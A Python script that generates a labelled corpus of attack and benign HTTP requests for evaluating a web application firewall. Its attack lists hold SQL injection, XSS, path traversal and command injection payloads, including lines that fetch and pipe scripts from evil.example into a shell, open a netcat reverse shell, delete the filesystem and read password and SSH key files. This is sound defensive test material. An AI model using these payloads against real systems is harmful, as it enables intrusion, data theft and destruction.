"""Generate waf_corpus.json: labelled attack and benign requests for the WAF figures.

Attacks are classic payloads of the four categories, each sent in several
encodings (percent-encoded, double-encoded, mixed case, `+` for spaces, HTML
entities for markup). Benign requests are ordinary URLs, search queries with
SQL-ish words and punctuation, and browser/API headers. Run:
    python tests/data/mitigation/make_corpus.py   (rewrites waf_corpus.json)
"""

from __future__ import annotations

import json
import random
from pathlib import Path
from urllib.parse import quote

HERE = Path(__file__).resolve().parent

ATTACKS = {
    "sql_injection": [
        "1' OR '1'='1",
        "1' OR 1=1--",
        "admin'--",
        "' OR 'a'='a",
        "1 UNION SELECT username, password FROM users",
        "1' UNION ALL SELECT NULL,NULL,NULL--",
        "1; DROP TABLE users",
        "1' AND SLEEP(5)--",
        "1' AND BENCHMARK(1000000,MD5(1))--",
        "1'; WAITFOR DELAY '0:0:5'--",
        "' UNION SELECT table_name FROM information_schema.tables--",
        "1 AND 1=1",
        "1) OR (1=1",
        "' or true--",
        '" OR ""="',
        "1'/**/UNION/**/SELECT/**/1,2,3--",
        "1' AND extractvalue(1,concat(0x7e,version()))--",
        "'; EXEC xp_cmdshell('dir')--",
        "1' AND pg_sleep(5)--",
        "x' UNION SELECT load_file('/etc/passwd')--",
    ],
    "xss": [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(document.cookie)>",
        "javascript:alert(1)",
        "<iframe src=javascript:alert(1)>",
        "\"><script>document.location='http://x/'+document.cookie</script>",
        "<body onload=alert('xss')>",
        '<a href="javascript:void(0)" onclick="alert(1)">x</a>',
        "<ScRiPt>eval('al'+'ert(1)')</sCrIpT>",
        "'-alert(1)-'",
        "<details open ontoggle=alert(1)>",
        '<object data="data:text/html,<script>alert(1)</script>">',
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<input autofocus onfocus=alert(1)>",
        "<marquee onstart=alert(1)>",
        '"><img src=1 onerror=prompt(1)>',
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<script src=//evil.example/x.js></script>",
        "String.fromCharCode(88,83,83)",
        "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
    ],
    "path_traversal": [
        "../../../../etc/passwd",
        "..\\..\\..\\windows\\win.ini",
        "....//....//etc/passwd",
        "/var/www/../../etc/shadow",
        "file:///etc/passwd",
        "php://filter/convert.base64-encode/resource=index.php",
        "../../../../proc/self/environ",
        "/.git/config",
        "/.env",
        "..;/..;/WEB-INF/web.config",
        "../../../../../boot.ini",
        "/static/../../../.htpasswd",
        "../../../home/user/.ssh/id_rsa",
        "zip://shell.jpg#payload.php",
        "expect://id",
        "/images/../../../../../var/log/auth.log",
        "../../../../etc/hosts",
        "phar://uploads/avatar.jpg",
        "/download?file=../../../etc/group",
        "..%c0%af..%c0%afetc/passwd",
    ],
    "command_injection": [
        "; cat /etc/passwd",
        "| id",
        "&& whoami",
        "`uname -a`",
        "$(curl http://evil.example/x.sh | sh)",
        "; wget http://evil.example/a -O /tmp/a",
        "|| ping -c 10 127.0.0.1",
        "; nc -e /bin/sh 10.0.0.1 4444",
        "${IFS}cat${IFS}/etc/passwd",
        "; rm -rf /",
        "| bash -i",
        "&& curl -s http://evil.example/ | bash",
        "; python3 -c 'import os'",
        "| powershell -enc AAAA",
        "; /bin/bash -c id",
        "127.0.0.1; ls -la",
        "$(whoami)",
        "& cmd /c dir",
        "; perl -e 'print 1'",
        "| nc 10.0.0.1 80",
    ],
}

BENIGN_QUERIES = [
    "how to select a good laptop",
    "rock & roll history",
    "O'Reilly books on python",
    "c++ tutorial for beginners",
    "1+1=2",
    "best union jobs near me",
    "drop shipping business ideas",
    "what is the order of planets",
    "john.doe@example.com",
    "price < 100 and rating > 4",
    "update my address",
    "delete account",
    "script writing course",
    "java vs javascript",
    "the path to success",
    "cat videos",
    "ls command meaning",
    "how to ping a server",
    "sleep tips for babies",
    "SELECT committee report 2024",
    "from paris to london",
    "tom & jerry",
    "50% off",
    "where is the 'best' cafe",
    "node.js express server",
    "R&D budget",
    "time: 10:30",
    "alert level orange",
    "document management system",
    "window cleaning services",
    "a | b pipes in unix explained",
    "wget vs curl",
    "echo dot review",
    "sh*t happens t-shirt",
    "email me at info@example.org",
    "2024-05-01T10:00:00Z",
    '{"filter": {"age": 30}}',
    "name=value;other=thing",
    "C:\\Users\\me\\Documents",
    "onion rings recipe",
    "online store",
    "version 2.0 release notes",
    "char broil grill",
    "the union of two sets",
    "insert coin",
    "or else",
    "and then there were none",
    "x = y + 2",
    "semi;colon",
    "dollar $5 deals",
]

BENIGN_PATHS = [
    "/",
    "/index.html",
    "/about",
    "/products/12345",
    "/blog/2024/05/hello-world",
    "/static/css/site.min.css",
    "/static/js/app.bundle.js",
    "/images/logo.png",
    "/api/v1/users/42",
    "/api/v1/orders?page=2&limit=50",
    "/search",
    "/docs/getting-started",
    "/downloads/report-2024.pdf",
    "/cart/add?item=991&qty=2",
    "/login?next=%2Fdashboard",
    "/callback?code=abc123&state=xyz",
    "/feed.xml",
    "/sitemap.xml",
    "/robots.txt",
    "/favicon.ico",
    "/user/settings/profile",
    "/wiki/Main_Page",
    "/wiki/C%2B%2B",
    "/files/My%20Document.docx",
    "/shop/category/shoes?color=red&size=42",
    "/track?utm_source=newsletter&utm_medium=email",
    "/api/search?q=%7B%22a%22%3A1%7D",
    "/path/with-dashes_and_underscores",
    "/en-US/help/contact",
    "/redirect?url=https%3A%2F%2Fexample.com%2Fpage",
]

HEADER_SETS = [
    {"User-Agent": "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"},
    {"User-Agent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0"},
    {"User-Agent": "curl/8.5.0", "Accept": "*/*"},
    {"User-Agent": "python-httpx/0.27", "Accept": "application/json"},
    {"Accept": "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", "Accept-Language": "en-US,en;q=0.5"},
    {"Cookie": "session=abc123; theme=dark; lang=en", "Referer": "https://example.com/page?x=1"},
]


def encodings(payload: str, category: str) -> list[tuple[str, str]]:
    """(name, query value as it appears on the wire)."""
    out = [
        ("percent", quote(payload, safe="")),
        ("double", quote(quote(payload, safe=""), safe="")),
        ("plus", quote(payload, safe="").replace("%20", "+")),
        ("mixed_case", quote("".join(c.upper() if i % 2 else c for i, c in enumerate(payload)), safe="")),
    ]
    if category == "xss":
        entity = payload.replace("<", "&lt;").replace(">", "&gt;")
        out.append(("html_entity", quote(entity, safe="")))
    return out


def build() -> list[dict[str, object]]:
    rng = random.Random(20260101)
    corpus: list[dict[str, object]] = []
    for category, payloads in ATTACKS.items():
        for payload in payloads:
            for name, value in encodings(payload, category):
                param = rng.choice(["q", "id", "file", "name", "cmd", "page"])
                corpus.append(
                    {
                        "label": "attack",
                        "category": category,
                        "encoding": name,
                        "target": f"/search?{param}={value}",
                        "headers": rng.choice(HEADER_SETS),
                    }
                )
        for payload in payloads[:5]:  # the same payloads in a header
            corpus.append(
                {
                    "label": "attack",
                    "category": category,
                    "encoding": "header",
                    "target": "/",
                    "headers": {"User-Agent": quote(payload, safe=" ;:/()=,'\"<>&|$`{}")},
                }
            )
    for query in BENIGN_QUERIES:
        for param in ("q", "search"):
            corpus.append(
                {
                    "label": "benign",
                    "category": "query",
                    "encoding": "percent",
                    "target": f"/search?{param}={quote(query, safe='')}",
                    "headers": rng.choice(HEADER_SETS),
                }
            )
        corpus.append(
            {
                "label": "benign",
                "category": "query",
                "encoding": "plus",
                "target": "/find?text=" + quote(query, safe="").replace("%20", "+"),
                "headers": rng.choice(HEADER_SETS),
            }
        )
    for path in BENIGN_PATHS:
        for headers in HEADER_SETS[:2]:
            corpus.append(
                {"label": "benign", "category": "path", "encoding": "none", "target": path, "headers": headers}
            )
    return corpus


if __name__ == "__main__":
    data = build()
    (HERE / "waf_corpus.json").write_text(json.dumps(data, indent=1) + "\n", encoding="utf-8")
    counts = {label: sum(1 for d in data if d["label"] == label) for label in ("attack", "benign")}
    print(counts)
